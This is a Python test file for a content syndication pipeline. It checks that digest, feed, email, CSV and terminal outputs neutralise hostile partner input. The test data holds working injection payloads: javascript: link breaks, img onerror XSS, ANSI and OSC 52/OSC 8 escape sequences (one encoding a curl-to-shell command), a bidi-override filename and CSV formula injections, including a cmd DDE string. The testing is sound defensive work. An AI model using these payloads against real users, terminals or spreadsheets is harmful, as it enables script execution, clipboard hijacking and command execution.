"""Finding 9 of issue 9: every digest format escapes partner strings for itself; and issue 17,
findings 4 and 5: spreadsheet formulas neutralised in CSV, control characters and terminal
escape sequences kept out of the database, every plain-text format, the XML feed and the
terminal.

A real run over loopback stores a hostile partner article (a canonical URL built to end a
Markdown link early, markup in og:title and the author); the digest written from that
database is then read the way its readers read it: the Markdown through a CommonMark
renderer that, like many, links any scheme; the HTML and Atom as markup."""
from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from email import message_from_bytes, policy
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from click.testing import CliRunner

from pipeline import clustering
from pipeline.cli import cli
from pipeline.publish import md_href

from fixtures.ingest.hostile import HostileServer, static

INJECTION = "#a>)[x](javascript:alert(1))"
MARKUP_TITLE = '<img src=x onerror=alert(1)> Sleep <b>matters</b>'
RSS = "application/rss+xml"


@pytest.fixture(autouse=True)
def _no_clustering(monkeypatch):
    monkeypatch.setattr(clustering, "cluster_new_mentions", lambda store, now, **kw: 0)


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.hrefs += [v for k, v in attrs if k in ("href", "src") and v is not None]


def _own_page(href: str) -> bool:
    """A relative link to one of the digest's own files (full version, feed, archive)."""
    return href.startswith("digest-") or href in ("feed.atom", "index.html")


def permissive_markdown(text: str) -> str:
    from markdown_it import MarkdownIt
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # many renderers do not filter schemes
    return md.render(text)


def hostile_site(server: HostileServer) -> str:
    page = server.url("/p") + INJECTION
    html = (f'<!doctype html><html lang="en"><head><title>x</title>'
            f'<meta property="og:title" content="{MARKUP_TITLE.replace(chr(34), "&quot;")}">'
            f'<meta name="author" content="&lt;script&gt;alert(2)&lt;/script&gt; Ann">'
            f'<link rel="canonical" href="{page}"></head><body><article><h1>Sleep</h1>'
            f"<p>Sleep problems are common in early recovery from alcohol use disorder. Most people "
            f"notice better sleep after several weeks of abstinence.</p></article></body></html>")
    feed = (f'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>H</title>'
            f'<link>{server.url("/")}</link><item><title>Sleep</title><link>{server.url("/p")}</link>'
            f'<guid>{server.url("/p")}</guid></item></channel></rss>')
    server.route("/p", static(html, "text/html; charset=utf-8"))
    server.route("/feed.xml", static(feed, RSS))
    server.route("/", static(f'<html><head><link rel="alternate" type="{RSS}" href="/feed.xml"></head></html>',
                             "text/html"))
    return page


def test_digest_outputs_resist_link_injection_and_stored_markup(tmp_path):
    db = str(tmp_path / "s.sqlite")
    with HostileServer() as server:
        page = hostile_site(server)
        (tmp_path / "src").mkdir()
        (tmp_path / "src" / "harbor.toml").write_text(f'name = "Harbor"\nhomepage = "{server.url("/")}"\n')
        result = CliRunner().invoke(cli, ["run", "--sources", str(tmp_path / "src"), "--db", db, "--quiet"])
        assert result.exit_code == 0, result.output
    exported = CliRunner().invoke(cli, ["export", "articles", "--db", db]).output
    assert INJECTION.split("#")[1] in exported and "<img" in exported  # stored as the partner sent it
    out = tmp_path / "digest"
    # the page gives no date, so it is dated by when it was fetched: this week
    result = CliRunner().invoke(cli, ["digest", "--db", db, "--out", str(out), "--week", "this"])
    assert result.exit_code == 0, result.output
    md = next(out.glob("*.md")).read_text()

    rendered = _Links()
    rendered.feed(permissive_markdown(md))
    rendered.hrefs = [h for h in rendered.hrefs if not _own_page(h)]
    assert rendered.hrefs, md
    assert all(h.startswith(server.url("/")) for h in rendered.hrefs), rendered.hrefs
    assert unquote(rendered.hrefs[0]) == page  # the whole URL stays one link target
    assert not {"img", "script", "b"} & rendered.tags  # og:title markup shown as text

    for page in out.glob("*.html"):  # the digest, its full version, the archive index
        html = _Links()
        html.feed(page.read_text())
        assert not {"img", "script", "b"} & html.tags
        assert all(h.startswith(("http://", "#")) or _own_page(h) for h in html.hrefs), page
        assert any(h.startswith("http://") for h in html.hrefs) or page.name == "index.html"
    atom = ET.parse(next(out.glob("*.atom"))).getroot()
    for el in atom.iter():
        assert not el.tag.endswith(("img", "script")) and not el.get("href", "").startswith("javascript")


@pytest.mark.parametrize("url", [
    "http://h/p#a>)[x](javascript:alert(1))", "http://h/p)](javascript:alert(1))", "http://h/<p>\n\n# x",
    "http://h/p\\>", "http://h/p`x` \"t\" 'u'", "http://[::1]:8/p?q=a b&r=%41",
])
def test_md_href_cannot_end_a_link(url):
    target = md_href(url)
    assert not set(target) & set("<>()\\`\"' \n")
    rendered = _Links()
    rendered.feed(permissive_markdown(f"[t](<{target}>) [u]({target})"))
    assert len(rendered.hrefs) == 2 and all(h.startswith("http://") for h in rendered.hrefs)
    assert unquote(rendered.hrefs[0]) == unquote(url)


def test_terminal_output_shows_control_characters_escaped(tmp_path):
    """`syndicate sources` prints partner-derived error text: an ANSI sequence or a bidi
    override in it must not act on the operator's terminal."""
    from datetime import datetime, timezone

    from pipeline.store import Store
    from pipeline.types import Source, SourceError, SourceResult

    db = str(tmp_path / "s.sqlite")
    store = Store.open(db)
    store.sync_sources([Source(id="evil", name="Evil", homepage="http://127.0.0.1:9/")])
    hostile = "bad page \x1b[2J\x1b]0;owned\x07 \u202egnp.exe"
    store.record_source_result(SourceResult("evil", errors=(SourceError("http-404", hostile, "http://h/\x1b[31m"),)),
                               datetime.now(timezone.utc))
    # as an older version stored it: the escape sequences in the database
    with store.engine.begin() as c:
        c.exec_driver_sql("UPDATE sources SET last_warning = ? WHERE id = 'evil'", ("old \x1b[8mhidden\x1b[0m",))
    store.close()
    out = CliRunner().invoke(cli, ["sources", "--db", db]).output
    assert "evil" in out and "bad page" in out
    assert not any(ch in out for ch in "\x1b\x07\u202e")
    assert "[2J" not in out and "owned" not in out  # escape sequences are not stored at all
    assert "\\u202e" in out  # a bidi override is text, stored; shown escaped
    assert "\\x1b[8mhidden" in out  # what an older version stored is shown escaped


# --- issue 17, finding 5: control characters and escape sequences from partner text -------------

CONTROLS = "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xa0)))
ESCAPES = {"osc52": "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "osc8": "\x1b]8;;https://evil.example/\x1b\\",
           "hidden": "\x1b[8m", "clear": "\x1b[2J", "c1-csi": "\x9b31m"}
HOSTILE_TITLE = "Sleep " + "".join(ESCAPES.values()) + " and " + CONTROLS + " matters \ufffe\uffff"
SHOWN = set(CONTROLS) - {"\t", "\n"} | {"\ufffe", "\uffff"}  # what no output may carry


def control_site(server: HostileServer) -> None:
    """A partner whose title (JSON-LD headline) and FAQ answer carry every C0 and C1 control
    character and the terminal escapes that matter (OSC 52 clipboard, OSC 8 link, hidden text)."""
    ld = json.dumps({"@context": "https://schema.org", "@graph": [
        {"@type": "BlogPosting", "headline": HOSTILE_TITLE, "author": {"@type": "Person", "name": "Ann\x1b[8m"}},
        {"@type": "FAQPage", "mainEntity": [{"@type": "Question", "name": "Is it normal\x07?",
                                             "acceptedAnswer": {"@type": "Answer",
                                                                "text": "Yes" + ESCAPES["osc52"] + " for a while."}}]}]})
    html = (f'<!doctype html><html lang="en"><head><title>x</title>'
            f'<script type="application/ld+json">{ld}</script></head><body><article><h1>Sleep</h1>'
            "<p>Sleep problems are common in early recovery from alcohol use disorder. Most people "
            "notice better sleep after several weeks of abstinence.</p></article></body></html>")
    feed = (f'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>H</title>'
            f'<link>{server.url("/")}</link><item><title>Sleep</title><link>{server.url("/p")}</link>'
            f'<guid>{server.url("/p")}</guid></item></channel></rss>')
    server.route("/p", static(html, "text/html; charset=utf-8"))
    server.route("/feed.xml", static(feed, RSS))
    server.route("/", static(f'<html><head><link rel="alternate" type="{RSS}" href="/feed.xml"></head></html>',
                             "text/html"))


def _carries_controls(text: str) -> set[str]:
    return {ch for ch in text if ch in SHOWN}


def test_control_characters_never_reach_the_database_the_digest_or_the_feed(tmp_path, monkeypatch):
    monkeypatch.setenv("SYNDICATE_ALLOW_PRIVATE", "1")  # the partner is on loopback
    db = str(tmp_path / "s.sqlite")
    with HostileServer() as server:
        control_site(server)
        (tmp_path / "src").mkdir()
        (tmp_path / "src" / "h.toml").write_text(f'name = "Harbor"\nhomepage = "{server.url("/")}"\n')
        result = CliRunner().invoke(cli, ["run", "--sources", str(tmp_path / "src"), "--db", db, "--quiet"])
        assert result.exit_code == 0, result.output
    (article,) = [json.loads(line) for line in CliRunner().invoke(cli, ["export", "articles", "--db", db]).output
                  .splitlines()]
    assert " ".join(article["title"].split()) == "Sleep and matters"  # the text kept, the controls not
    assert "52;c;" not in article["title"] and "evil.example" not in article["title"]  # sequences gone whole
    assert not _carries_controls(article["title"] + article["author"])
    faq = [json.loads(line) for line in CliRunner().invoke(cli, ["export", "faq", "--db", db]).output.splitlines()]
    assert [(f["question"], f["answer"]) for f in faq] == [("Is it normal?", "Yes for a while.")]

    out = tmp_path / "digest"
    result = CliRunner().invoke(cli, ["digest", "--db", db, "--out", str(out), "--week", "this",
                                      "--email-to", "ed@example.org", "--dry-run"])
    assert result.exit_code == 0, result.output
    atom = out / "feed.atom"
    root = ET.parse(atom).getroot()  # well-formed XML: a feed reader accepts it
    assert "Sleep" in "".join(root.itertext())
    assert not feedparser_bozo(atom)
    for path in out.iterdir():
        text = path.read_bytes().decode("utf-8")
        assert not _carries_controls(text.replace("\r\n", "\n")), path.name
    eml = message_from_bytes((out / next(p.name for p in out.glob("*.eml"))).read_bytes(), policy=policy.default)
    for part in ("plain", "html"):
        body = eml.get_body((part,)).get_content()
        assert "Sleep" in body and not _carries_controls(body.replace("\r\n", "\n")), part


def feedparser_bozo(path) -> bool:
    import feedparser
    return bool(feedparser.parse(path.read_bytes()).bozo)


def test_a_feed_from_pages_written_before_stays_well_formed(tmp_path):
    """A digest page an older version wrote (control characters in it) goes into the next
    feed.atom as the entry's content: the feed must still parse."""
    from datetime import datetime, timezone

    from pipeline.publish import Week, write_digest
    from pipeline.types import DigestWeek

    old = tmp_path / "digest-2026-W46.html"
    old.write_text(f"<html><body><main><p>{HOSTILE_TITLE}</p></main></body></html>", "utf-8")
    (tmp_path / "archive.json").write_text(json.dumps({"weeks": {"2026-W46": dict(
        hash="x", updated="2026-11-16T00:00:00Z", page=old.name, title="Partner digest\x1b[8m, week 2026-W46",
        summary="old \x00 summary", start="2026-11-09", end="2026-11-15")}}), "utf-8")
    week = Week(2026, 47)
    empty = DigestWeek(start=week.start, end=week.end, sources={}, articles=(), claims=(), changed=(), faq=())
    write_digest(empty, Week(2026, 47), tmp_path, generated_at=datetime(2026, 11, 23, tzinfo=timezone.utc))
    root = ET.parse(tmp_path / "feed.atom").getroot()
    texts = "".join(root.itertext())
    assert "2026-W46" in texts and "Sleep" in ET.tostring(root, encoding="unicode")
    assert not _carries_controls((tmp_path / "feed.atom").read_text("utf-8"))


def test_terminal_output_of_search_and_claims_escapes_what_an_older_database_holds(tmp_path):
    """`search`, `claims list` and `claims show` print partner sentences: text stored before
    this version cleaned it may hold escape sequences, shown escaped, never acting."""
    import research_data as rd
    from sqlalchemy import text

    db = tmp_path / "r.sqlite"
    store = rd.build(f"sqlite:///{db}")
    evil = "Walking \x1b]52;c;Y3VybA==\x07every day\x1b]8;;https://evil.example/\x07 lowers \x9b8m blood pressure."
    with store.engine.begin() as c:  # as an older version stored it
        claim_id = c.execute(text("SELECT cm.claim_id FROM claim_members cm JOIN mentions m ON m.id = cm.mention_id "
                                  "WHERE m.text = :w"), dict(w=rd.WALK["birch"])).scalar()
        c.execute(text("UPDATE mentions SET text = :t, display = :t WHERE text = :w"), dict(t=evil, w=rd.WALK["birch"]))
        c.execute(text("UPDATE claims SET canonical_text = :t WHERE id = :c"), dict(t=evil, c=claim_id))
    store.close()
    runner = CliRunner()
    outputs = {"search": runner.invoke(cli, ["search", "every", "day", "--db", str(db)]),
               "claims list": runner.invoke(cli, ["claims", "list", "--db", str(db)]),
               "claims show": runner.invoke(cli, ["claims", "show", str(claim_id), "--db", str(db)])}
    for name, result in outputs.items():
        assert result.exit_code == 0, (name, result.output)
        assert not set(result.output) & (SHOWN - {"\n"}), name
        assert "\\x1b]52;c;" in result.output or "\\x1b]8;;" in result.output, (name, result.output)


# --- issue 17, finding 4: spreadsheet formulas in CSV -------------------------------------------------

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1 for walking every day.",
            "-5 mg a day is the usual dose.", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed start.", "\rCarriage start."]


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised_and_parquet_keeps_them(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    import csv
    import io

    import research_data as rd
    from sqlalchemy import text

    db = tmp_path / "r.sqlite"
    store = rd.build(f"sqlite:///{db}")
    with store.engine.begin() as c:  # partner sentences that start like formulas (and one that does not)
        ids = [r[0] for r in c.execute(text("SELECT id FROM mentions ORDER BY id LIMIT :n"), dict(n=len(FORMULAS)))]
        for mention_id, formula in zip(ids, FORMULAS):
            c.execute(text("UPDATE mentions SET display = :t WHERE id = :i"), dict(t=formula, i=mention_id))
        c.execute(text("UPDATE articles SET title = '=1+1' WHERE source_id = 'birch'"))
    store.close()
    runner = CliRunner()
    result = runner.invoke(cli, ["export", "mentions", "--db", str(db), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8"), newline="")))
    displays = {r["mention_id"]: r["display"] for r in rows}
    expected = ["'" + f.replace("\r", "\n") for f in FORMULAS]  # a lone CR would end the row
    assert [displays[str(i)] for i in ids] == expected
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert {r["article_title"] for r in rows if r["site"] == "birch"} == {"'=1+1"}
    assert any(r["display"] == rd.WALK["cedar"] for r in rows)  # ordinary text untouched

    snap = tmp_path / "snap"
    result = runner.invoke(cli, ["snapshot", str(snap), "--db", str(db)])
    assert result.exit_code == 0, result.output
    with (snap / "mentions.csv").open(newline="", encoding="utf-8") as f:
        snap_rows = list(csv.DictReader(f))
    assert [r["display"] for r in snap_rows if int(r["mention_id"]) in ids] == expected
    table = {r["mention_id"]: r["display"] for r in pq.read_table(snap / "mentions.parquet").to_pylist()}
    assert [table[i] for i in ids] == FORMULAS  # Parquet keeps the value as stored
